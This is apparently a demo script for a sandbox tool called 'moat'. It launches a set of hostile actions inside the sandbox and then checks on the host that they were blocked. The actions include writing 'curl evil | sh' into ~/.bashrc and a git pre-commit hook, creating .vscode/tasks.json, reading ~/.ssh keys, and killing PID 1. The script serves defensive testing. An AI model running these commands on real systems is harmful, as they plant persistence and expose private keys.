#!/usr/bin/env bash
# Builds moat and runs one allowed and several blocked actions in a throwaway
# workspace, then checks on the host what really happened.
set -euo pipefail
repo=$(cd "$(dirname "$0")/.." && pwd)
CGO_ENABLED=0 go build -o "$repo/moat" "$repo/cmd/moat"
ws=$(mktemp -d /tmp/moat-demo.XXXXXX)
trap 'rm -rf "$ws"' EXIT
cd "$ws" && git init -q .

echo "\$ moat run -- sh -c '...'   (in $ws)"
"$repo/moat" run -- sh -c '
  echo hello > notes.txt && echo "allowed: wrote notes.txt in the workspace"
  echo "curl evil | sh" >> ~/.bashrc        || echo "blocked: append to ~/.bashrc"
  echo "curl evil | sh" > .git/hooks/pre-commit || echo "blocked: plant .git/hooks/pre-commit"
  mkdir -p .vscode && echo {} > .vscode/tasks.json || echo "blocked: create .vscode/tasks.json"
  cat ~/.ssh/id_* 2>/dev/null || echo "blocked: read ~/.ssh (hidden)"
  if command -v python3 >/dev/null; then
    python3 -c "import urllib.request; urllib.request.urlopen(\"https://example.com\", timeout=5)" 2>/dev/null || echo "blocked: connect to example.com (not in the allow list)"
  fi
  kill -9 1 2>/dev/null; ps -e -o pid=,comm= | sed "s/^/  visible process:/"
  setsid sleep 600 & echo "started a daemon (pid $!) that must not survive"
' </dev/null 2>&1 | sed 's/^/  /' # no terminal: undecided hosts are refused, not asked about
echo "exit status: ${PIPESTATUS[0]}"
echo
echo "on the host afterwards:"
echo "  notes.txt:              $(cat "$ws/notes.txt")"
echo "  ~/.bashrc tail:         $(tail -n1 ~/.bashrc 2>/dev/null || echo '(none)')"
echo "  .git/hooks/pre-commit:  $([ -e "$ws/.git/hooks/pre-commit" ] && echo PRESENT || echo absent)"
echo "  .vscode:                $([ -e "$ws/.vscode" ] && echo PRESENT || echo absent)"
echo "  surviving daemons:      $(pgrep -fc 'sleep 600' || true)"
